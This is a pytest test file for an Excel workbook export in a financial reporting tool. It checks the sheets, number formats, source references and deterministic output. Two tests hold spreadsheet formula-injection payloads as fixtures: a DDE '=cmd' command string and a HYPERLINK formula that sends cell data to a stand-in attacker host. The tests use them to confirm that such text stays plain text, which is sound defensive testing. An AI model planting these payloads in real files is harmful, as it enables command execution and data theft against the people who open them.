"""metrics.xlsx as an analyst's workbook (issue 16 item 10): a sheet per basis with companies down and metrics across
in number formats, the subject highlighted, a Sources sheet with each figure's file and line, and a Key sheet."""

from __future__ import annotations

import dataclasses
import io
import json
import zipfile
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from reportgen import export, pipeline
from reportgen.i18n import Text
from reportgen.metrics import BY_ID
from reportgen.model import FLAGS, is_missing
from reportgen.periods import Quarter

from .conftest import REPO, write_mini

Q = Quarter.parse("2025Q2")
CREATED = datetime(2025, 12, 1, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def edition():
    """The default workspace's 2025Q2 tables and statistics (both bases), and its workbook's bytes."""
    ctx = pipeline.open_workspace(REPO, [Q])
    tables = {"quarter": pipeline.metric_table(ctx, Q, "quarter"), "ytd": pipeline.metric_table(ctx, Q, "ytd")}
    stats = {b: pipeline.group_stats(ctx, t) for b, t in tables.items()}
    data = make(ctx, tables, stats)
    return ctx, tables, stats, data


def make(ctx, tables, stats, rows=None, groups=None) -> bytes:
    return export.workbook_bytes(
        tables,
        stats,
        ctx.data.rows if rows is None else rows,
        ctx.data.companies,
        ctx.settings.subject,
        ctx.settings.groups if groups is None else groups,
        Text("en"),
        CREATED,
    )


@pytest.fixture(scope="module")
def wb(edition):
    return load_workbook(io.BytesIO(edition[3]))


def header(ws) -> dict[str, int]:
    """Column number of each header of row 1."""
    return {c.value: c.column for c in ws[1] if c.value}


def row_of(ws, name: str) -> int:
    rows = [c.row for c in ws["A"] if c.value == name]
    assert len(rows) == 1, (name, rows)
    return rows[0]


def value_of(table, company, metric):
    (v,) = table[(table.company == company) & (table.metric == metric)]["value"]
    return v


def test_sheets_and_frozen_panes(wb):
    assert wb.sheetnames == ["2025Q2", "H1 2025", "Sources", "Key"]
    assert wb.active.title == "2025Q2"
    for name in ("2025Q2", "H1 2025", "Sources"):
        assert wb[name].freeze_panes == "B2", name  # header row and first column
    first = wb["2025Q2"]
    assert first["A1"].value == "Company" and first["A2"].value == "Xiaomi"  # the subject first
    assert first.column_dimensions["A"].width >= len("Hisense Home Appliances")


def test_values_are_numbers_in_number_formats(wb, edition):
    _ctx, tables, _stats, _data = edition
    ws, table = wb["2025Q2"], tables["quarter"]
    cols, r = header(ws), row_of(ws, "Xiaomi")
    selling = ws.cell(r, cols["Selling-expense ratio"])
    assert selling.value == value_of(table, "xiaomi", "selling_expense_ratio")  # the fraction, unrounded
    assert selling.number_format == "0.0%"
    revenue = ws.cell(r, cols["Revenue (RMB mn)"])
    assert revenue.value == pytest.approx(value_of(table, "xiaomi", "revenue")) and revenue.value > 100_000
    assert revenue.number_format == "#,##0"
    growth = ws.cell(r, cols["Revenue growth YoY"])
    assert growth.value == value_of(table, "xiaomi", "revenue_yoy") and growth.number_format.startswith("+0.0%")
    pp = ws.cell(r, cols["Gross margin change YoY (pp)"])  # in points: 0.018 -> 1.8 pp
    assert pp.value == pytest.approx(100 * value_of(table, "xiaomi", "gross_margin_yoy_pp"))
    assert '" pp"' in pp.number_format and "%" not in pp.number_format


def test_subject_row_is_highlighted_and_marks_sit_beside_values(wb):
    ws = wb["2025Q2"]
    cols = header(ws)
    xiaomi, midea = row_of(ws, "Xiaomi"), row_of(ws, "Midea")
    assert ws.cell(xiaomi, 1).fill.fgColor.rgb.endswith(export.SUBJECT_FILL)
    assert ws.cell(xiaomi, cols["Net margin"]).fill.fgColor.rgb.endswith(export.SUBJECT_FILL)
    assert not ws.cell(midea, 1).fill.fgColor.rgb.endswith(export.SUBJECT_FILL)
    # Midea's single quarter is derived from its cumulative reports: mark d in the column after the value
    assert ws.cell(midea, cols["Revenue (RMB mn)"] + 1).value == "d"
    nio = row_of(ws, "NIO")  # NIO reports only SG&A: its selling ratio is a proxy (a)
    assert "a" in ws.cell(nio, cols["Selling-expense ratio"] + 1).value


def test_missing_value_is_an_empty_cell_that_says_why(wb, edition):
    _ctx, tables, _stats, _data = edition
    ws = wb["2025Q2"]
    cell = ws.cell(row_of(ws, "Haier"), header(ws)["Gross margin"])
    assert is_missing(value_of(tables["quarter"], "haier", "gross_margin"))
    assert cell.value is None and cell.comment is not None
    assert cell.comment.text.startswith("Not available: ") and "cannot be derived" in cell.comment.text


def test_groups_with_their_medians(wb, edition):
    _ctx, tables, stats, _data = edition
    ws = wb["2025Q2"]
    col = header(ws)["Net margin"]
    labels = [c.value for c in ws["A"]]
    assert labels.index("Home appliances") < labels.index("Midea") < labels.index("EV makers") < labels.index("NIO")
    s = stats["quarter"]
    (median,) = s[(s.group == "home_appliances") & (s.metric == "net_margin")]["median"]
    first_median = labels.index("Peer median") + 1  # the home appliances' median, under their four rows
    assert labels.index("Hisense Home Appliances") + 1 < first_median < labels.index("EV makers") + 1
    assert ws.cell(first_median, col).value == pytest.approx(median)
    (n,) = s[(s.group == "home_appliances") & (s.metric == "revenue_yoy")]["n"]
    assert n < 3 and ws.cell(first_median, header(ws)["Revenue growth YoY"]).value is None  # no median of two
    # one smartphone peer: no median row after Transsion
    assert labels[labels.index("Transsion") + 1] in (None, "")


def test_ytd_sheet_leaves_out_what_is_not_defined_there(wb):
    ws = wb["H1 2025"]
    assert "Revenue growth QoQ" not in header(ws) and "Revenue growth QoQ" in header(wb["2025Q2"])
    notes = [c.value for c in ws["A"] if isinstance(c.value, str)]
    assert any(n.startswith("Not shown: Revenue growth QoQ") for n in notes)
    assert "Period: the first half of 2025 (year to date)." in notes


def test_sources_sheet_carries_file_line_url_and_use(wb, edition):
    ctx, tables, _stats, _data = edition
    ws = wb["Sources"]
    cols = header(ws)
    rows = [{h: ws.cell(r, c).value for h, c in cols.items()} for r in range(2, ws.max_row + 1)]
    # every figure behind every value, once
    refs = {ref for t in tables.values() for refs in t["sources"] for ref in refs}
    assert sorted(r["Data file and line"] for r in rows) == sorted(refs)
    (ref,) = value_of_col(tables["quarter"], "xiaomi", "revenue", "sources")
    (row,) = [r for r in rows if r["Data file and line"] == ref]
    path, line = ref.rsplit(":", 1)
    printed = (REPO / path).read_text(encoding="utf-8").splitlines()[int(line) - 1]
    assert printed.startswith("2025Q2,3M,Revenue,115956091,thousand,RMB,")  # the file's line says what we say
    assert row["Source URL"] and row["Source URL"] in printed
    assert (row["Company"], row["Period"], row["Basis"], row["Item"]) == ("Xiaomi", "2025Q2", "3 months", "revenue")
    assert row["Value as printed"] == 115956091 and row["Unit"] == "thousand" and row["Currency"] == "RMB"
    assert row["Confidence"] == "high" and row["Vintage"] == "as first published"
    assert row["Used in"].startswith("2025Q2: Revenue, Revenue growth YoY")
    link = ws.cell(2 + rows.index(row), cols["Source URL"]).hyperlink
    assert link is not None and link.target == row["Source URL"]
    # Midea's H1 selling expenses serve both sheets
    (midea,) = [
        r for r in rows if r["Company"] == "Midea" and r["Period"] == "2025Q2" and r["Item"] == "selling expenses"
    ]
    assert midea["Data file and line"].startswith("data/financials/midea.csv:")
    assert "2025Q2: Selling-expense ratio" in midea["Used in"] and "H1 2025: Selling-expense ratio" in midea["Used in"]


def value_of_col(table, company, metric, column):
    (v,) = table[(table.company == company) & (table.metric == metric)][column]
    return v


def test_sources_value_keeps_the_decimals_it_was_printed_with(wb):
    ws = wb["Sources"]
    cols = header(ws)
    formats = {
        ws.cell(r, cols["Value as printed"]).value: ws.cell(r, cols["Value as printed"]).number_format
        for r in range(2, ws.max_row + 1)
    }
    assert formats[2172.74] == "#,##0.00"  # Midea's H1 2024 revenue, 亿元
    assert formats[115956091] == "#,##0"


def test_key_sheet_lists_every_mark(wb):
    ws = wb["Key"]
    key = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(2, ws.max_row + 1)}
    for f in FLAGS:
        if f.mark:
            assert key.get(f.mark) == f.note, f.id
    assert "pp" in key and "Peer median" in key


def test_text_that_looks_like_a_formula_stays_text(edition):
    ctx, tables, stats, _data = edition
    evil = "=cmd|' /C calc'!A0"
    q = tables["quarter"].copy()
    q.loc[q.company == "midea", "name"] = evil
    groups = [dataclasses.replace(g, label="+SUM(1,1)") if g.id == "ev_makers" else g for g in ctx.settings.groups]
    rows = [
        dataclasses.replace(r, label='=HYPERLINK("http://x")') if r.company == "midea" else r for r in ctx.data.rows
    ]
    wb = load_workbook(io.BytesIO(make(ctx, {"quarter": q}, {"quarter": stats["quarter"]}, rows, groups)))
    assert wb.sheetnames == ["2025Q2", "Sources", "Key"]  # one basis: one sheet
    ws = wb["2025Q2"]
    names = {c.value: c for c in ws["A"] if isinstance(c.value, str)}
    assert names[evil].data_type == "s" and names["+SUM(1,1)"].data_type == "s"
    src = wb["Sources"]
    cells = [c for c in src[get_letter(header(src)["Label as printed"])] if c.value == '=HYPERLINK("http://x")']
    assert cells and all(c.data_type == "s" for c in cells)
    assert any(c.value == evil and c.data_type == "s" for c in src["A"])
    for sheet in wb.worksheets:  # nothing anywhere is a formula
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], sheet.title


def get_letter(col: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(col)


def test_same_inputs_same_bytes(edition):
    ctx, tables, stats, data = edition
    assert make(ctx, tables, stats) == data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert {i.date_time for i in z.infolist()} == {(2025, 12, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert "2025-12-01T00:00:00Z" in core and core.count("2025-12-01T00:00:00Z") == 2  # created and modified


def test_every_metric_of_the_catalogue_has_a_number_format():
    assert {m.unit for m in BY_ID.values()} <= set(export.NUMBER_FORMATS)


def test_a_workspace_with_foreign_currency_and_a_formula_like_name(tmp_path):
    ws = write_mini(tmp_path / "mini", {})
    reg = ws / "data/companies.toml"
    evil = '=HYPERLINK("http://attacker.test/?x="&A1,"Click")'
    reg.write_text(reg.read_text(encoding="utf-8").replace('name = "Beta"', f"name = {json.dumps(evil)}"), "utf-8")
    q = Quarter.parse("2025Q2")
    ctx = pipeline.open_workspace(ws, [q])
    tables = {"quarter": pipeline.metric_table(ctx, q, "quarter")}
    stats = {"quarter": pipeline.group_stats(ctx, tables["quarter"])}
    book = load_workbook(io.BytesIO(make(ctx, tables, stats)))
    sheet = book["2025Q2"]
    assert [c.value for c in sheet["A"][:4]] == ["Company", "Alpha", "Peers", evil]
    beta = row_of(sheet, evil)
    assert sheet.cell(beta, 1).data_type == "s"
    assert "x" in sheet.cell(beta, header(sheet)["Revenue (RMB mn)"] + 1).value  # converted from HKD
    src = book["Sources"]
    cols = header(src)
    hkd = [r for r in range(2, src.max_row + 1) if src.cell(r, cols["Currency"]).value == "HKD"]
    assert hkd and {src.cell(r, cols["Company"]).value for r in hkd} == {evil}
    assert all(src.cell(r, cols["Company"]).data_type == "s" for r in hkd)
    assert src.cell(hkd[0], cols["Data file and line"]).value.startswith("data/financials/beta.csv:")
